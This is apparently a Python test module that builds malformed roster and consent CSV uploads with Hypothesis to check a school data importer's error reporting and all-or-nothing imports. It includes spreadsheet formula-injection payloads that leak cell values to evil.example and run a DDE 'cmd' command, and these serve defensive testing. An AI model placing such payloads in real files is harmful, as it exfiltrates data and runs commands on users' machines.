"""Hostile input for the security tests: Hypothesis strategies that build malformed roster bundles and
consent files (each fault knows where it must be reported), formula-injection values, and the checks
the properties share (the state of every table, where a problem may point).

Every generated file starts from a valid one and keeps valid rows beside the faulty ones, so a partial
import would show in the tables.
"""

from __future__ import annotations

import copy
import csv
import datetime
import functools
import hashlib
import io
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from django.db import connection
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from accounts.roster import SPECS
from consent.importer import SPEC as CONSENT_SPEC
from core.csv_reader import FileSpec
from tests.accounts.bundles import HEADERS, manifest, standard_files

# --- Settings ---------------------------------------------------------------------------------------

# Reproducible in CI: no example database, the same examples on every run. HYPOTHESIS_SCALE=10 runs ten
# times as many (say, nightly); a failure prints a blob to replay it with @reproduce_failure.
SCALE = float(os.environ.get("HYPOTHESIS_SCALE", "1"))
PROFILE = settings(
    deadline=None,
    database=None,
    derandomize=True,
    print_blob=True,
    # Fixtures (the persona world) are built once per test; each example rolls its own changes back.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
settings.register_profile("security", PROFILE)


def examples(n: int) -> settings:
    return settings(PROFILE, max_examples=max(1, round(n * SCALE)))


# --- Values -----------------------------------------------------------------------------------------

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA_BODIES = (
    'HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "cmd|' /C calc'!A0",
    "1+1",
    'IMPORTXML(CONCAT("https://evil.example/?v=",B2),"//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
)
# Larger than the csv module reads in one field (131,072 characters); built, not drawn, so it is cheap.
HUGE_CELL = 1 << 20
HUGE = "a cell too large to read"  # where such a cell is reported: its line, no field


@functools.cache  # built once: Hypothesis validates each new strategy, which costs more than drawing from it
def formula_values(max_size: int = 150) -> st.SearchStrategy[str]:
    body = st.sampled_from(FORMULA_BODIES) | st.text(
        st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zl", "Zp"]), max_size=max_size
    )
    return st.builds(lambda prefix, text: (prefix + text)[:max_size], st.sampled_from(FORMULA_PREFIXES), body)


@functools.cache
def names(max_size: int) -> st.SearchStrategy[str]:
    """Names a roster may rightly hold: any script, quotes and commas, a line break inside, a formula,
    exactly the longest allowed. Surrounding spaces are trimmed by the reader, so none are drawn."""
    letters = st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zl", "Zp"])
    plain = st.text(letters, min_size=1, max_size=max_size)
    inner_break = st.builds(lambda a, b: f"{a}\n{b}", st.text(letters, min_size=1, max_size=20), plain)
    edge = st.sampled_from(["O'Brien, Jr.", 'The "Eagles"', "Zoë Ångström", "李小龙", "Ada 👩‍💻", "é" * max_size])
    return (
        (plain | inner_break.map(lambda s: s[:max_size]) | edge | formula_values(max_size)).map(str.strip).filter(bool)
    )


# --- Writing CSV with a known line for each row ------------------------------------------------------


@dataclass
class Layout:
    """How a file is written: harmless variations a real export may have."""

    order: list[str]
    upper: bool = False
    extra: list[str] = field(default_factory=list)
    endings: list[str] = field(default_factory=lambda: ["\r\n"])
    blank_after: frozenset[int] = frozenset()
    bom: bool = False


@functools.cache
def layouts(columns: tuple[str, ...]) -> st.SearchStrategy[Layout]:
    return st.builds(
        Layout,
        order=st.permutations(columns).map(list),
        upper=st.booleans(),
        extra=st.lists(st.sampled_from(["x_custom", "metadata.note", "Local Id"]), max_size=2, unique=True),
        endings=st.lists(st.sampled_from(["\r\n", "\n"]), min_size=1, max_size=3),
        blank_after=st.frozensets(st.integers(0, 10), max_size=3),
        bom=st.booleans(),
    )


def write_csv_spans(header: list[str], rows: list[list[str]], layout: Layout) -> tuple[str, list[tuple[int, int]]]:
    """The file's text and, for each row, the lines it starts and ends on (a quoted line break spans two)."""
    spans: list[tuple[int, int]] = []
    text = ""
    for index, cells in enumerate([header, *rows]):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerow(cells)  # so a field with a line break is quoted
        record = buffer.getvalue().removesuffix("\r\n")
        if index:
            start = text.count("\n") + 1
            spans.append((start, start + record.count("\n")))
        text += record + layout.endings[index % len(layout.endings)]
        if index in layout.blank_after:
            text += layout.endings[0]
    return text, spans


def write_csv(header: list[str], rows: list[list[str]], layout: Layout) -> tuple[str, list[int]]:
    """The file's text and the line each row ends on (what the importers report about a row)."""
    text, spans = write_csv_spans(header, rows, layout)
    return text, [end for _, end in spans]


def first_bad_utf8_line(data: bytes) -> int | None:
    """The line the importers name when a file is not UTF-8 (a UTF-8 BOM on line 1 is allowed)."""
    for number, line in enumerate(data.splitlines(keepends=True), start=1):
        if number == 1 and line.startswith(b"\xef\xbb\xbf"):
            line = line[3:]
        try:
            line.decode("utf-8")
        except UnicodeDecodeError:
            return number
    return None


# --- Where a problem must be reported ------------------------------------------------------------------

ANY = "any"  # a fault that is about the whole file: its name must be reported, line and field may vary


@dataclass(frozen=True)
class Where:
    file: str
    # A line, or the lines a row spans (a cell too large to read is reported on the line it is on).
    line: int | tuple[int, int] | str | None = ANY
    field: str | None = ANY

    def matches(self, problem: dict[str, Any]) -> bool:
        if isinstance(self.line, tuple):
            on_line = problem["line"] is not None and self.line[0] <= problem["line"] <= self.line[1]
        else:
            on_line = self.line == ANY or problem["line"] == self.line
        return problem["file"] == self.file and on_line and (self.field == ANY or problem["field"] == self.field)


# --- Roster bundles ---------------------------------------------------------------------------------------

ROSTER_FILES = ("orgs.csv", "users.csv", "classes.csv", "enrollments.csv")
ROSTER_SPECS: dict[str, FileSpec] = {
    "manifest.csv": FileSpec("manifest.csv", ("propertyName", "value")),
    "orgs.csv": SPECS["orgs.csv"],
    "users.csv": SPECS["users.csv@1.1"],
    "classes.csv": SPECS["classes.csv"],
    "enrollments.csv": SPECS["enrollments.csv"],
}
MANIFEST_FIELDS = {"oneroster.version"} | {f"file.{n}" for n in ("orgs", "users", "classes", "enrollments", "roles")}


@dataclass
class RosterBundle:
    files: dict[str, bytes]
    expected: list[Where]
    faults: int
    # What a valid bundle must store verbatim (trimmed): school, student and class names by sourcedId.
    planted: dict[tuple[str, str], str]
    as_zip: bool
    described: list[str]

    def write(self, directory: Any) -> Any:
        if self.as_zip:
            path = directory / "roster.zip"
            path.write_bytes(self.zip_bytes())
            return path
        for name, content in self.files.items():
            (directory / name).write_bytes(content)
        return directory

    def zip_bytes(self) -> bytes:
        return zip_of(self.files)


def zip_of(files: dict[str, bytes]) -> bytes:
    """The files in a folder of a zip, dated so the same files always give the same bytes (and the same
    damaged variants, so a failure can be replayed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as bundle:
        for name, content in files.items():
            info = zipfile.ZipInfo(f"export/{name}", date_time=(2026, 8, 1, 10, 0, 0))
            bundle.writestr(info, content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def standard_zip() -> bytes:
    files = {"manifest.csv": manifest("1.1").encode()}
    for name, rows in standard_files().items():
        files[name] = write_csv(
            HEADERS[name], [[row.get(c, "") for c in HEADERS[name]] for row in rows], Layout(order=HEADERS[name])
        )[0].encode()
    return zip_of(files)


Rows = dict[str, list[dict[str, str]]]


PRISTINE: Rows = standard_files()


def _row_of(rows: Rows, file: str, sid: str) -> int:
    """Where the standard bundle has `sid` (rows keep their order; a fault may have changed the id since)."""
    return next(i for i, row in enumerate(PRISTINE[file]) if row["sourcedId"] == sid)


# Faults in one value: (file, which rows, column, bad values). The row's line and the column are where
# the problem must be reported.
FIELD_FAULTS: list[tuple[str, list[str], str, list[str]]] = [
    ("orgs.csv", ["d1", "sch1", "sch2"], "type", ["planet", "schol"]),
    ("orgs.csv", ["sch1", "sch2"], "status", ["zombie", "deleted?"]),
    ("orgs.csv", ["sch1", "sch2"], "name", ["N" * 201, ""]),
    ("orgs.csv", ["sch1", "sch2"], "identifier", ["9" * 65]),
    ("orgs.csv", ["d1", "sch1"], "dateLastModified", ["yesterday", "2026-13-01", "2026-02-30T10:00:00Z"]),
    ("users.csv", ["s1", "s2", "s3", "s4"], "grades", ["99", "\u00b2", "Grade 5", "9" * 5000]),
    ("users.csv", ["t1", "t2", "a1"], "email", ["not-an-email", "a@b", "x" * 250 + "@north.example.org"]),
    ("users.csv", ["t1", "s1", "p1"], "givenName", ["G" * 151, ""]),
    ("users.csv", ["t2", "s2"], "familyName", ["F" * 151, ""]),
    ("users.csv", ["t1", "s3"], "role", ["wizard", "pupil"]),
    ("users.csv", ["t1", "s1", "p1"], "orgSourcedIds", ["nowhere", "sch1,nowhere"]),
    ("users.csv", ["t1", "s2"], "status", ["zombie"]),
    ("users.csv", ["a1", "s1"], "dateLastModified", ["31/12/2026", "2026-1-1x"]),
    ("users.csv", ["t1", "s1"], "identifier", ["7" * 65]),
    ("users.csv", ["s1", "t1"], "sourcedId", [""]),
    ("classes.csv", ["c1"], "title", ["T" * 201, ""]),
    ("classes.csv", ["c1"], "schoolSourcedId", ["nowhere", "d1"]),
    ("classes.csv", ["c1"], "status", ["zombie"]),
    ("enrollments.csv", ["e1", "e2"], "role", ["wizard"]),
    ("enrollments.csv", ["e1", "e2"], "sourcedId", ["e" * 256, ""]),
    ("enrollments.csv", ["e1"], "beginDate", ["2026-02-30", "soon"]),
    ("enrollments.csv", ["e2"], "status", ["zombie"]),
]


def _duplicate(file: str, column: str, first: str, later: str) -> Callable[[Rows], tuple[str, int, str]]:
    def apply(rows: Rows) -> tuple[str, int, str]:
        index = _row_of(rows, file, later)
        rows[file][index][column] = rows[file][_row_of(rows, file, first)][column]
        return file, index, column

    return apply


def _set(file: str, sid: str, values: dict[str, str], column: str) -> Callable[[Rows], tuple[str, int, str]]:
    def apply(rows: Rows) -> tuple[str, int, str]:
        index = _row_of(rows, file, sid)
        rows[file][index].update(values)
        return file, index, column

    return apply


# Faults only seen across rows (checked once every row is fine on its own): reported on the later row.
ACROSS_ROWS: list[Callable[[Rows], tuple[str, int, str]]] = [
    _duplicate("orgs.csv", "sourcedId", "sch1", "sch2"),
    _duplicate("users.csv", "sourcedId", "t1", "t2"),
    _duplicate("users.csv", "sourcedId", "s1", "s2"),
    _duplicate("users.csv", "identifier", "s1", "s2"),
    _duplicate("users.csv", "email", "t1", "t2"),
    _duplicate("users.csv", "identifier", "t1", "a1"),
    _duplicate("enrollments.csv", "sourcedId", "e1", "e2"),
    _set("users.csv", "s4", {"sourcedId": "s" * 65}, "sourcedId"),  # known by its id: a student id is 64 at most
    _set("users.csv", "t1", {"email": ""}, "email"),  # staff sign in with their e-mail
    _set("enrollments.csv", "e1", {"classSourcedId": "c9"}, "classSourcedId"),
    _set("enrollments.csv", "e2", {"userSourcedId": "ghost"}, "userSourcedId"),
]


@st.composite
def roster_bundles(draw: st.DrawFn, *, max_faults: int = 3) -> RosterBundle:
    """A OneRoster 1.1 bundle with 0 to `max_faults` faults. With none it is valid (whatever its layout
    and names); `expected` lists where each located fault must be reported."""
    rows: Rows = copy.deepcopy(standard_files())
    planted: dict[tuple[str, str], str] = {}
    described: list[str] = []
    for sid in ("sch1", "sch2"):
        if draw(st.booleans()):
            planted[("school", sid)] = rows["orgs.csv"][_row_of(rows, "orgs.csv", sid)]["name"] = draw(names(200))
    for sid in ("s1", "s2", "s3", "s4"):
        if draw(st.booleans()):
            row = rows["users.csv"][_row_of(rows, "users.csv", sid)]
            planted[("student", sid)] = row["givenName"] = draw(names(150))
            row["familyName"] = draw(names(150))
    if draw(st.booleans()):
        planted[("class", "c1")] = rows["classes.csv"][0]["title"] = draw(names(200))

    faults = draw(st.integers(0, max_faults))
    kinds = draw(
        st.lists(
            st.sampled_from(["field", "across", "nul", "huge", "structure", "bytes"]), min_size=faults, max_size=faults
        )
    )
    located: list[tuple[str, int, str]] = []  # (file, row index, field) resolved to lines once written
    expected: list[Where] = []
    after_writing: list[str] = []
    for kind in kinds:
        if kind == "field":
            file, sids, column, values = draw(st.sampled_from(FIELD_FAULTS))
            sid, value = draw(st.sampled_from(sids)), draw(st.sampled_from(values))
            index = _row_of(rows, file, sid)
            rows[file][index][column] = value
            located.append((file, index, column))
            described.append(f"{file} {sid}.{column} = {value[:30]!r}")
        elif kind == "across":
            file, index, column = draw(st.sampled_from(ACROSS_ROWS))(rows)
            located.append((file, index, column))
            described.append(f"{file} row {index}: {column} repeated or unknown")
        elif kind == "nul":
            file = draw(st.sampled_from(ROSTER_FILES))
            index = draw(st.integers(0, len(rows[file]) - 1))
            column = draw(st.sampled_from([c for c in ROSTER_SPECS[file].columns if c in HEADERS[file]]))
            rows[file][index][column] = rows[file][index].get(column, "") + "\x00x"
            located.append((file, index, column))
            described.append(f"{file} row {index}: NUL in {column}")
        elif kind == "huge":
            file = draw(st.sampled_from(ROSTER_FILES))
            index = draw(st.integers(0, len(rows[file]) - 1))
            column = draw(st.sampled_from(HEADERS[file]))
            rows[file][index][column] = draw(st.sampled_from("xé=")) * draw(st.integers(131_073, HUGE_CELL))
            located.append((file, index, HUGE))
            described.append(f"{file} row {index}: {column} of a megabyte")
        else:
            after_writing.append(kind)

    # Write each file with its own harmless layout, and find the line of each located fault.
    files: dict[str, bytes] = {"manifest.csv": manifest("1.1").encode()}
    texts: dict[str, str] = {}
    lines_of: dict[str, list[tuple[int, int]]] = {}
    layouts_of: dict[str, Layout] = {}
    for name in ROSTER_FILES:
        layout = draw(layouts(tuple(HEADERS[name])))
        header = [c.upper() if layout.upper else c for c in layout.order] + layout.extra
        cells = [[row.get(c, "") for c in layout.order] + ["" for _ in layout.extra] for row in rows[name]]
        texts[name], lines_of[name] = write_csv_spans(header, cells, layout)
        layouts_of[name] = layout
    for file, index, column in located:
        start, end = lines_of[file][index]
        expected.append(Where(file, (start, end), None) if column == HUGE else Where(file, end, column))
    for name, text in texts.items():
        files[name] = (b"\xef\xbb\xbf" if layouts_of[name].bom else b"") + text.encode("utf-8")

    for kind in after_writing:
        present = [name for name in ROSTER_FILES if name in files]
        if kind == "structure" and present:
            file = draw(st.sampled_from(present))
            header = HEADERS[file]
            spec = ROSTER_SPECS[file]
            how = draw(
                st.sampled_from(
                    ["drop column", "twice", "ragged", "open quote", "utf-16", "latin-1", "cr only", "empty"]
                )
            )
            if how == "drop column":
                column = draw(st.sampled_from(list(spec.required)))
                kept = [c for c in header if c != column]
                text, _ = write_csv(kept, [[r.get(c, "") for c in kept] for r in rows[file]], Layout(order=kept))
                files[file] = text.encode()
                expected.append(Where(file, 1, column))
            elif how == "twice":
                column = draw(st.sampled_from(list(spec.columns)))
                doubled = [*header, column]
                text, _ = write_csv(
                    doubled, [[r.get(c, "") for c in doubled] for r in rows[file]], Layout(order=doubled)
                )
                files[file] = text.encode()
                expected.append(Where(file, 1, column))
            elif how == "ragged":
                index = draw(st.integers(0, len(rows[file]) - 1))
                cells = [[r.get(c, "") for c in header] for r in rows[file]]
                cells[index].append("one too many")
                text, lines = write_csv(header, cells, Layout(order=header))
                files[file] = text.encode()
                expected.append(Where(file, lines[index], None))
            elif how == "open quote":  # a quote never closed: the reader takes the rest of the file as one cell
                text = files[file].decode("utf-8", errors="replace")
                files[file] = (text + '"' + ",".join(["x"] * len(header))).encode()
                expected.append(Where(file, text.count("\n") + 1, None))
            elif how in ("utf-16", "latin-1"):
                cells = [[r.get(c, "") for c in header] for r in rows[file]]
                if how == "latin-1":
                    cells[draw(st.integers(0, len(rows[file]) - 1))][header.index("status")] = "activé"
                data = write_csv(header, cells, Layout(order=header))[0].encode(how, errors="replace")
                files[file] = data
                bad = first_bad_utf8_line(data)
                expected.append(Where(file, bad if bad is not None else ANY, None))
            elif how == "cr only":
                files[file] = files[file].replace(b"\r\n", b"\r").replace(b"\n", b"\r")
                expected.append(Where(file))
            else:
                files[file] = b""
                expected.append(Where(file, 1, None))
            described.append(f"{file}: {how}")
        elif kind == "bytes":  # a whole file that is not what it says, or a required one missing
            how = draw(st.sampled_from(["random", "missing", "version", "mode", "no manifest"]))
            if how == "random":
                file = draw(st.sampled_from(ROSTER_FILES))
                files[file] = draw(st.binary(min_size=1, max_size=400))
                expected.append(Where(file))
            elif how == "missing":
                file = draw(st.sampled_from(["orgs.csv", "users.csv"]))
                files.pop(file, None)
                expected.append(Where(file, None, None))
            elif how == "version":
                files["manifest.csv"] = manifest(draw(st.sampled_from(["2.0", "1.0", "", "1.1\x00"]))).encode()
                expected.append(Where("manifest.csv"))
            elif how == "mode":
                files["manifest.csv"] = manifest("1.1", {"users": "sometimes"}).encode()
                expected.append(Where("manifest.csv", None, "file.users"))
            else:
                files.pop("manifest.csv", None)
                expected.append(Where("manifest.csv", None, None))
            described.append(f"bundle: {how}")
    return RosterBundle(
        files=files,
        expected=expected,
        faults=faults,
        planted=planted,
        as_zip=draw(st.booleans()),
        described=described,
    )


def damaged(data: bytes) -> st.SearchStrategy[bytes]:
    """A zip with a few bytes overwritten, cut short or with bytes inserted: what a broken download gives."""

    @st.composite
    def build(draw: st.DrawFn) -> bytes:
        out = bytearray(data)
        for _ in range(draw(st.integers(1, 6))):
            how = draw(st.sampled_from(["flip", "cut", "insert"]))
            position = draw(st.integers(0, max(0, len(out) - 1)))
            if how == "flip" and out:
                out[position] = draw(st.integers(0, 255))
            elif how == "cut":
                del out[position:]
            else:
                out[position:position] = draw(st.binary(min_size=1, max_size=8))
        return bytes(out)

    return build()


# --- Consent files -------------------------------------------------------------------------------------------

CONSENT_COLUMNS = list(CONSENT_SPEC.columns)
CONSENT_SCOPES = ("social_media", "website", "yearbook", "news_media")
DECISIONS = ("granted", "Granted", "YES", "consent", "refused", "no", "opt out", "Opt-Out", "withdrawn", "withdraw")
TODAY = datetime.date(2026, 11, 21)


@dataclass
class ConsentFile:
    data: bytes
    expected: list[Where]
    faults: int
    valid_rows: list[dict[str, str]]  # the rows a valid file must record, as written (trimmed by the reader)
    described: list[str]


@functools.cache
def _school_years_for(received: datetime.date, start_month: int = 7) -> st.SearchStrategy[str]:
    """How an export may write the school year of an answer received on `received` (or the next)."""
    first = received.year if received.month >= start_month else received.year - 1
    year = st.sampled_from([first, first + 1])
    return year.flatmap(lambda y: st.sampled_from([f"{y}", f"{y}-{(y + 1) % 100:02d}", f"{y}–{y + 1}"]))


CONSENT_FIELD_FAULTS: list[tuple[str, list[str]]] = [
    ("sis_id", ["NOPE", "S1", "n1 x", ""]),  # S1 is a student of the district next door
    ("scope", ["participation", "photos of pets", ""]),
    ("decision", ["maybe", "yes!", ""]),
    ("date", ["2026-02-30", "31/31/2026", "2027-01-01", "1901-05-05", "tomorrow", ""]),
    ("guardian", ["G" * 201]),
    ("note", ["N" * 501]),
    ("received_as", ["pigeon", "fax"]),
    ("school_year", ["26-27", "1789", "next year"]),
]


@st.composite
def consent_files(draw: st.DrawFn, *, students: tuple[str, ...], max_faults: int = 3) -> ConsentFile:
    """A consent CSV: 1 to 6 valid answers (distinct student and scope), and 0 to `max_faults` faults."""
    pairs = draw(
        st.lists(
            st.tuples(st.sampled_from(students), st.sampled_from(CONSENT_SCOPES)), min_size=1, max_size=6, unique=True
        )
    )
    rows: list[dict[str, str]] = []
    for sis_id, scope in pairs:
        received = draw(st.dates(datetime.date(2010, 1, 1), TODAY))
        rows.append(
            {
                "sis_id": sis_id,
                "scope": scope.upper() if draw(st.booleans()) else scope,
                "decision": draw(st.sampled_from(DECISIONS)),
                "date": received.strftime(draw(st.sampled_from(["%Y-%m-%d", "%m/%d/%Y", "%m/%d/%y"]))),
                "guardian": draw(st.just("") | names(200)),
                "received_as": draw(st.sampled_from(["", "paper", "email", "online", "sis_import", "Paper form"])),
                "note": draw(st.just("") | names(500)),
                # A valid answer counts for the school year it was received in, or the next one.
                "school_year": draw(st.just("") | _school_years_for(received)),
            }
        )
    valid_rows = copy.deepcopy(rows)
    faults = draw(st.integers(0, max_faults))
    kinds = draw(
        st.lists(st.sampled_from(["field", "duplicate", "nul", "huge", "structure"]), min_size=faults, max_size=faults)
    )
    located: list[tuple[int, str]] = []
    described: list[str] = []
    structure: list[str] = []
    for kind in kinds:
        index = draw(st.integers(0, len(rows) - 1))
        if kind == "field":
            column, values = draw(st.sampled_from(CONSENT_FIELD_FAULTS))
            rows[index][column] = draw(st.sampled_from(values))
            located.append((index, column))
            described.append(f"row {index}: {column} = {rows[index][column][:30]!r}")
        elif kind == "duplicate":
            rows.append({**rows[index], "decision": "refused"})
            located.append((len(rows) - 1, "sis_id"))
            described.append(f"row {index} repeated")
        elif kind == "nul":
            column = draw(st.sampled_from(CONSENT_COLUMNS))
            rows[index][column] += "\x00"
            located.append((index, column))
            described.append(f"row {index}: NUL in {column}")
        elif kind == "huge":
            column = draw(st.sampled_from(CONSENT_COLUMNS))
            rows[index][column] = draw(st.sampled_from("x=é")) * draw(st.integers(131_073, HUGE_CELL))
            located.append((index, HUGE))
            described.append(f"row {index}: {column} of a megabyte")
        else:
            structure.append(
                draw(st.sampled_from(["drop column", "twice", "ragged", "open quote", "utf-16", "latin-1", "random"]))
            )

    layout = draw(layouts(tuple(CONSENT_COLUMNS)))
    header = [c.upper() if layout.upper else c for c in layout.order] + layout.extra
    text, spans = write_csv_spans(
        header, [[r[c] for c in layout.order] + ["" for _ in layout.extra] for r in rows], layout
    )
    data = (b"\xef\xbb\xbf" if layout.bom else b"") + text.encode("utf-8")
    expected = [
        Where("consent.csv", spans[index], None) if column == HUGE else Where("consent.csv", spans[index][1], column)
        for index, column in located
    ]
    for how in structure:
        columns = list(CONSENT_COLUMNS)
        cells = [[r[c] for c in columns] for r in rows]
        if how == "drop column":
            column = draw(st.sampled_from(list(CONSENT_SPEC.required)))
            kept = [c for c in columns if c != column]
            data = write_csv(kept, [[r[c] for c in kept] for r in rows], Layout(order=kept))[0].encode()
            expected.append(Where("consent.csv", 1, column))
        elif how == "twice":
            column = draw(st.sampled_from(columns))
            doubled = [*columns, column]
            data = write_csv(doubled, [[r[c] for c in doubled] for r in rows], Layout(order=doubled))[0].encode()
            expected.append(Where("consent.csv", 1, column))
        elif how == "ragged":
            index = draw(st.integers(0, len(rows) - 1))
            cells[index] = cells[index][:-2]
            text, lines = write_csv(columns, cells, Layout(order=columns))
            data = text.encode()
            expected.append(Where("consent.csv", lines[index], None))
        elif how == "open quote":
            text = write_csv(columns, cells, Layout(order=columns))[0]
            data = (text + '"' + ",".join(["x"] * len(columns))).encode()
            expected.append(Where("consent.csv", text.count("\n") + 1, None))
        elif how in ("utf-16", "latin-1"):
            if how == "latin-1":
                cells[draw(st.integers(0, len(rows) - 1))][columns.index("guardian")] = "Mme Hélène Côté"
            data = write_csv(columns, cells, Layout(order=columns))[0].encode(how, errors="replace")
            bad = first_bad_utf8_line(data)
            expected.append(Where("consent.csv", bad if bad is not None else ANY, None))
        else:
            data = draw(st.binary(max_size=600))
            expected.append(Where("consent.csv"))
        described.append(how)
    return ConsentFile(data=data, expected=expected, faults=faults, valid_rows=valid_rows, described=described)


# --- Checks the properties share -------------------------------------------------------------------------------

# What an upload may change even when it is refused: the upload's own record, sign-in sessions, the privacy
# log of who looked at consent lists.
NOT_DATA = frozenset({"accounts_rosterimport", "consent_consentimport", "consent_listviewlog", "django_session"})


def database_state(exclude: frozenset[str] = NOT_DATA) -> dict[str, tuple[int, str]]:
    """Rows and a checksum of every table of the project: equal before and after means nothing changed."""
    state: dict[str, tuple[int, str]] = {}
    with connection.cursor() as cursor:
        tables = sorted(set(connection.introspection.table_names(cursor)) - exclude)
        if connection.vendor == "postgresql":  # one round trip instead of one per table
            cursor.execute(
                " UNION ALL ".join(
                    f"SELECT %s, COUNT(*), md5(COALESCE(string_agg(t::text, E'\\n' ORDER BY t::text), '')) "
                    f"FROM {connection.ops.quote_name(table)} t"
                    for table in tables
                ),
                tables,
            )
            return {table: (count, checksum) for table, count, checksum in cursor.fetchall()}
        for table in tables:
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")
            rows = sorted(repr(row) for row in cursor.fetchall())
            state[table] = (len(rows), hashlib.sha256("\n".join(rows).encode()).hexdigest())
    return state


def changed_tables(before: dict[str, tuple[int, str]], after: dict[str, tuple[int, str]]) -> list[str]:
    return sorted(table for table in before.keys() | after.keys() if before.get(table) != after.get(table))


def well_placed(problem: dict[str, Any], files: dict[str, bytes | None], specs: dict[str, FileSpec]) -> str | None:
    """Why a reported problem does not point at a real place of the upload (None when it does): a known file,
    a line inside it (when its content is known), a column of its kind of file."""
    file, line, column = problem["file"], problem["line"], problem["field"]
    if file not in specs:
        return f"unknown file {file!r}"
    if not problem["message"]:
        return "no message"
    content = files.get(file, b"")
    if line is not None and content is not None:
        size = content.count(b"\n") + content.count(b"\r") + 1
        if not 1 <= line <= size:
            return f"line {line} is outside the file ({size} lines)"
    allowed = set(specs[file].columns) | (MANIFEST_FIELDS if file == "manifest.csv" else set())
    if column is not None and column not in allowed:
        return f"field {column!r} is not a column of {file}"
    return None
